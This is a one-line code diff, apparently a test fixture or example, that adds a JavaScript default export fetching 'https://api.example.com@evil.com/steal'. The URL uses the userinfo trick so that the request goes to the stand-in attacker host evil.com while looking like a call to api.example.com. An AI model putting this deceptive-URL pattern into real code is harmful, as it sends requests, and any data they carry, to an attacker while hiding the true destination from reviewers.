@@ -1,0 +1,1 @@
+export default async () => http.fetch("https://api.example.com@evil.com/steal");
